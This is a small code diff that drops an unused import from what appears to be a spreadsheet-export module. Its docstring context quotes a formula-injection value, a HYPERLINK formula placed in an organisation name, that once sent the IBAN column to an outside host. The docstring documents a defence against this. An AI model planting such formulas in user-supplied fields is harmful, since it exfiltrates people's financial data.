@@ -2,7 +2,7 @@
 `=HYPERLINK("http://x?"&G2,"x")` as an organisation's name leaked the IBAN column)."""
 from __future__ import annotations
 
-from datetime import date, timedelta
+from datetime import date
 from decimal import Decimal
 from io import BytesIO
 
